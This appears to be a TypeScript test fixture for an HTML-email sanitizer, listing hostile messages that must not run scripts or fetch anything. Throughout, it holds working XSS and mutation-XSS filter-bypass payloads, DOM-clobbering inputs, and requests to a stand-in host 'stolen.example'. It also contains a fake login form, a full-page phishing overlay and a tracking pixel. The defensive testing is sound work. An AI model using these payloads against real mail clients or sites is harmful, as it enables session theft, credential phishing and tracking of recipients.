// Messages that try to run, to fetch, or to escape; what succeeds calls attack() or asks the server for /stolen.

const RUN = "top.attack('ran')";

export const hostileMail: Record<string, string> = {
  script: `<p>a</p><script>${RUN}</script>`,
  "handler of a picture": `<img src="x:" onerror="${RUN}">`,
  "handler in a drawing": `<svg onload="${RUN}"><g/></svg>`,
  "handler that needs no fetching": `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  "animation event": `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${RUN}">x</b>`,
  "script in a style of MathML": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;">`,
  "frame of a page": `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  "object and embed": `<object data="data:text/html,<script>parent.top.attack('ran')</script>"></object><embed src="/stolen">`,
  "new base": `<base href="http://stolen.example/"><a href="x">x</a>`,
  "refreshing page": `<meta http-equiv="refresh" content="0;url=/stolen">`,
  "style sheet from outside": `<link rel="stylesheet" href="/stolen"><style>@import "/stolen"; body{background:url(/stolen)}</style>`,
  "inline styles that fetch": `<p style="background-image:url('/stolen')">x</p><p style="list-style:url(/stolen)">y</p>`,
  "picture from outside": `<img src="/stolen"><img srcset="/stolen 2x"><picture><source srcset="/stolen"></picture><table background="/stolen">`,
  "media and fonts": `<video src="/stolen" poster="/stolen" autoplay></video><style>@font-face{font-family:f;src:url(/stolen)}b{font-family:f}</style><b>x</b>`,
};

/** Those that a script or a form would need a click for. */
export const hostileLinks = `
  <a href="javascript:${RUN}">1</a><a href=" java&#10;script:${RUN}">2</a><a href="data:text/html,<script>${RUN}</script>">3</a>
  <a href="vbscript:x">4</a><form action="/stolen"><button>5</button></form><a href="https://contoh.example/" target="_top">6</a>`;

/** Ways around filters, known from others' mistakes. */
export const hostileHtml: Record<string, string> = {
  "mutation by a table": `<table><td><style><a title="</style><img src onerror=${RUN}>"></a></style></table>`,
  "mutation by a form in MathML": `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  "mutation by nested anchors": `<a><svg><a><style><img title="</style><img src onerror=${RUN}>">`,
  "mutation by noscript": `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  "mutation by a comment in a select": `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  "mutation by foreignObject": `<svg></p><style><g title="</style><img src onerror=${RUN}>">`,
  "mutation by annotation-xml": `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  "mutation by plaintext": `<div><plaintext><img src=x onerror=${RUN}>`,
  "mutation by xmp and listing": `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  "template with a shadow": `<div><template shadowrootmode="open"><img src=x onerror=${RUN}></template></div>`,
  "processing instruction": `<?xml-stylesheet href="javascript:${RUN}"?><![CDATA[<img src=x onerror=${RUN}>]]>`,
  "clobbered document": `<img name="body"><img name="cookie"><form id="document"><input name="attributes"><input name="nodeName"></form><a id="window"></a><img name="createElement">`,
  "clobbered by ids": `<a id="surel-start"></a><p id="app"></p><a id="__proto__"></a><a id="constructor" name="prototype">x</a>`,
  "entities in javascript": `<a href="&#106;&#x61;vascript&colon;${RUN}">1</a><a href="java&Tab;script&colon;${RUN}">2</a><a href="&#1;javascript:${RUN}">3</a><img src="javas\tcript:${RUN}">`,
  "javascript in every place": `<body background="javascript:${RUN}"><table background="javascript:${RUN}"><td background="javascript:${RUN}"><input type=image src="javascript:${RUN}"><img lowsrc="javascript:${RUN}" dynsrc="javascript:${RUN}"><bgsound src="javascript:${RUN}"><isindex action="javascript:${RUN}"><button formaction="javascript:${RUN}">`,
  "links of drawings": `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/><animate attributeName=href values="javascript:${RUN}"/><set attributeName=onload to="${RUN}"/></svg>`,
  "drawing as a picture": `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.attack('svg')"><image href="/stolen"/></svg>`).toString("base64")}">`,
  "page as a picture": `<img src="data:text/html;base64,${Buffer.from("<script>top.attack('x')</script>").toString("base64")}"><iframe src="data:text/html,<script>top.attack('y')</script>"></iframe>`,
  "handlers that need no help": `<body onload="${RUN}" onpageshow="${RUN}" onfocus="${RUN}"><input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select><marquee onstart="${RUN}">x</marquee><video><source onerror="${RUN}"></video><p tabindex=0 autofocus onfocus="${RUN}" oncontentvisibilityautostatechange="${RUN}" style="content-visibility:auto">x</p><xss id=x popover onbeforetoggle="${RUN}">`,
  "refresh in many spellings": `<meta http-equiv="refresh" content="0; url=javascript:${RUN}"><meta http-equiv=Refresh content="0;URL='/stolen'"><META HTTP-EQUIV="Set-Cookie" Content="a=b"><meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  "base and relative pictures": `<base href="http://stolen.example/" target="_top"><img src="gambar.png"><a href="x">x</a><img src="//stolen.example/a.png">`,
  "form that looks like ours": `<form action="http://stolen.example/sign-in" method="post"><input name="username"><input type="password" name="password"><button>Masuk</button></form><input form="x" type="password"><isindex>`,
  "sources in sets": `<img srcset="/stolen 1x, http://stolen.example/b.png 2x" sizes="1px"><picture><source srcset="/stolen" media="all"><img></picture><link rel="preload" as="image" href="/stolen" imagesrcset="/stolen 1x"><link rel="dns-prefetch" href="//stolen.example"><link rel="prefetch" href="/stolen">`,
  "styles that fetch": `<style>@import url(/stolen);@import "//stolen.example/a.css";@font-face{font-family:s;src:url(/stolen)}*{font-family:s;background:url(/stolen);list-style:url(/stolen);cursor:url(/stolen),auto;border-image:url(/stolen);mask:url(/stolen);filter:url(/stolen#a);content:url(/stolen);shape-outside:url(/stolen);-webkit-box-reflect:below 0 url(/stolen)}@namespace url(/stolen);@media all{p{background:u\\72l(/stolen)}}p::before{content:url(/stolen)}p{background:image-set("/stolen" 1x);--x:url(/stolen);background-image:var(--x)}</style><p>x</p>`,
  "styles that fetch, nested and inline": `<style>p{& b{background:url(/stolen)};@media all{background:url(/stolen)}}@layer a{p{background:url(/stolen)}}@supports (color:red){p{background:url(/stolen)}}@container (width>1px){p{background:url(/stolen)}}@scope(p){b{background:url(/stolen)}}@property --y{syntax:"*";inherits:false;initial-value:url(/stolen)}</style><p style="background:url(/stolen)"><b style="--z:url(/stolen);background:var(--z)">x</b></p>`,
  "styles of old browsers": `<p style="behavior:url(/stolen);width:expression(${RUN});-moz-binding:url(/stolen);x:\\65xpression(${RUN})">x</p><style>p{behavior:url(/stolen)}</style><div style="background:url('javascript:${RUN}')">`,
  "a style that ends early": `<style>p{color:red}</style/><img src=x onerror=${RUN}></style><style>a{content:"</style><img src=x onerror=${RUN}>"}</style>`,
  "a cover over the page": `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><h1>Sesi berakhir</h1><a href="https://stolen.example/sign-in">Masuk kembali</a></div><style>body{position:fixed;top:-9999px}html{overflow:hidden}</style>`,
  "content ids that are none": `<img src="cid:%FF%FE"><img src="cid:../../jmap/api"><img src="cid:"><img src="cid:%00"><img src="CID:javascript:${RUN}"><a href="mailto:%FF%FE?subject=x">x</a><a href="cid:x">y</a>`,
  "a tracker of one pixel": `<img src="https://stolen.example/t.gif?u=budi" width=1 height=1><img src="http://stolen.example/u.gif" style="display:none"><img src="https://[::1]/x.png"><img src="http://127.0.0.1:1/x.png">`,
  "frames and objects": `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="&lt;script&gt;top.attack('z')&lt;/script&gt;"></iframe><object data="/stolen" type="text/html"></object><embed src="/stolen"><applet code="x" archive="/stolen"></applet><frameset><frame src="/stolen"></frameset><portal src="/stolen"></portal><fencedframe></fencedframe><object type="text/html" data="data:text/html,x"></object>`,
  "maps and pings": `<img usemap="#m"><map name="m"><area href="javascript:${RUN}" shape=default></map><a href="https://contoh.example" ping="/stolen" attributionsrc="/stolen" download>x</a><blockquote cite="javascript:${RUN}">x</blockquote><q cite="/stolen">x</q>`,
  "text in the wrong direction": `<a href="https://stolen.example/">https://\u202Eelpmaxe.hotnoc</a><bdo dir=rtl>x</bdo>`,
};
